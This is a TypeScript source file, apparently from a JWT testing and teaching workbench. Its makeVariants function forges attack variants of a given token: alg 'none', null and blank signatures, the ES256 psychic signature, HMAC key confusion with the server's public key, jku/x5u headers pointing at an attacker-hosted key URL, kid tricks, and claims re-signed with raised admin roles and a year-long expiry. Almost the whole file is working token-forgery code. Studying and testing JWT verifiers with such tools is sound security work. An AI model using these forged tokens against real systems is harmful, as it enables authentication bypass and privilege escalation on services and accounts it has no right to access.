/**
 * Every classic attack variant of one token (the jwt_tool / JWT Editor
 * list): read the inputs, build each variant, and say why one could not be.
 */
import { fail, ok, type Result } from '../errors';
import { decodeTextPart, encodePart } from '../jws/base64url';
import { parseKey } from '../keys/parse';
import { signJsonText } from '../lessons/tokens';
import { attackerKeyVariants, makeAttackerKey } from './attacker-key';
import { hmacAlgOf, hmacToken, readTarget, type Target } from './forge';
import { blankSecret, kidVariants, noneVariants, nullSignature, psychic } from './header-variants';
import { publicKeyForms } from './public-key-forms';
import type { AttackInput, AttackVariant } from './types';

/** Above this many characters a secret, key or URL is refused: each is copied into tokens. */
export const ATTACK_FIELD_LIMIT = 64 * 1024;

/** The variants made, and notes on the ones that could not be (no key given …). */
export interface AttackSet {
  variants: AttackVariant[];
  notes: string[];
}

const HMACS = ['HS256', 'HS384', 'HS512'] as const;
const YEAR = 365 * 24 * 3600;

function checkUrl(text: string): Result<string> {
  let url: URL;
  try {
    url = new URL(text);
  } catch {
    return fail(
      'ERR_ATTACK_INPUT',
      `"${text}" is not a URL: write it whole, as https://host/path.`,
    );
  }
  if (url.protocol !== 'https:' && url.protocol !== 'http:')
    return fail('ERR_ATTACK_INPUT', `The attacker URL must start with https:// (or http://).`);
  return ok(url.href);
}

/** HS256/384/512 keyed with each form of the server's public key. */
async function keyConfusion(target: Target, publicKey: string): Promise<Result<AttackVariant[]>> {
  const forms = await publicKeyForms(publicKey);
  if (!forms.ok) return forms;
  const variants: AttackVariant[] = [];
  for (const alg of HMACS)
    for (const form of forms.value)
      variants.push({
        id: `key-confusion${form.suffix}${alg === 'HS256' ? '' : `-${alg.toLowerCase()}`}`,
        title: `${alg} keyed with the public key: ${form.label}`,
        explanation: `"alg": "${alg}" with ${form.label} as the HMAC secret: a verifier that hands "its key" to whatever algorithm the header names accepts.`,
        reference: 'CVE-2016-5431 (php-jose), CVE-2022-29217 (PyJWT), CVE-2022-23540',
        token: await hmacToken({ ...target.header, alg }, target.payload, form.bytes),
      });
  return ok(variants);
}

/** The payload with `exp` a year out and any role, admin flag or scope raised. */
function tamperedClaims(target: Target, now: number): string | undefined {
  let claims: unknown;
  try {
    claims = JSON.parse(decodeTextPart(target.payload));
  } catch {
    return undefined;
  }
  if (typeof claims !== 'object' || claims === null || Array.isArray(claims)) return undefined;
  const tampered: Record<string, unknown> = { ...claims, exp: now + YEAR };
  if ('role' in tampered) tampered.role = 'admin';
  if (typeof tampered.admin === 'boolean') tampered.admin = true;
  if (typeof tampered.scope === 'string' && !/\badmin\b/.test(tampered.scope))
    tampered.scope = `${tampered.scope} admin`.trim();
  return JSON.stringify(tampered);
}

/** The tampered claims re-signed with the known secret (or private key). */
async function claimTampering(
  target: Target,
  secret: string,
  now: number,
): Promise<Result<AttackVariant>> {
  const payload = tamperedClaims(target, now);
  if (payload === undefined)
    return fail('ERR_ATTACK_INPUT', 'The payload is not a JSON claims set: no claims to tamper.');
  const parsed = parseKey(secret);
  const isSecret = parsed.ok && parsed.value.kind === 'secret';
  const header = { ...target.header, alg: isSecret ? hmacAlgOf(target) : target.alg };
  let token: string;
  try {
    token = isSecret
      ? await hmacToken(header, encodePart(payload), secret)
      : await signJsonText(JSON.stringify(header), payload, secret);
  } catch (cause) {
    return fail('ERR_ATTACK_INPUT', `The known key could not sign ${target.alg}.`, { cause });
  }
  return ok({
    id: 'claims-tampered',
    title: 'Claims tampered, re-signed with the known key',
    explanation:
      '"exp" a year out, and "role", "admin" or "scope" raised where present, signed with the key you know: proof that whoever holds it can mint any token.',
    reference: 'RFC 7519 §4.1.4; RFC 8725 §3.5 (weak secrets)',
    token,
  });
}

function tooLong(input: AttackInput): string | undefined {
  const fields = { 'public key': input.publicKey, URL: input.url, secret: input.secret };
  for (const [name, value] of Object.entries(fields))
    if ((value?.length ?? 0) > ATTACK_FIELD_LIMIT)
      return `The ${name} has ${value!.length} characters; the workbench takes up to ${ATTACK_FIELD_LIMIT}.`;
  return undefined;
}

/** Every variant of `input.token`; the optional inputs add the variants that need them. */
export async function makeVariants(input: AttackInput): Promise<Result<AttackSet>> {
  const long = tooLong(input);
  if (long) return fail('ERR_INPUT_TOO_LARGE', long);
  const target = readTarget(input.token.trim());
  if (!target.ok) return target;
  const publicKey = input.publicKey?.trim() ? input.publicKey : '';
  const secret = input.secret ?? '';
  let url = '';
  if (input.url?.trim()) {
    const checked = checkUrl(input.url.trim());
    if (!checked.ok) return checked;
    url = checked.value;
  }
  const t = target.value;
  const notes: string[] = [];
  const variants: AttackVariant[] = [...noneVariants(t), nullSignature(t), await blankSecret(t)];
  const zero = psychic(t);
  if (zero) variants.push(zero);
  else notes.push(`No psychic signature: the token is ${t.alg}, not ES256, ES384 or ES512.`);
  if (publicKey) {
    const confused = await keyConfusion(t, publicKey);
    if (confused.ok) variants.push(...confused.value);
    else notes.push(`No key confusion: ${confused.error.message}`);
  } else notes.push('No key confusion: give the server\u2019s public key.');
  variants.push(...(await attackerKeyVariants(t, await makeAttackerKey(input.now), url)));
  if (!url) notes.push('No jku or x5u: give the URL you will host the attacker\u2019s keys at.');
  variants.push(...(await kidVariants(t, secret)));
  if (secret) {
    const tampered = await claimTampering(t, secret, input.now);
    if (tampered.ok) variants.push(tampered.value);
    else notes.push(`No claim tampering: ${tampered.error.message}`);
  } else notes.push('No claim tampering: give a secret you know.');
  return ok({ variants, notes });
}
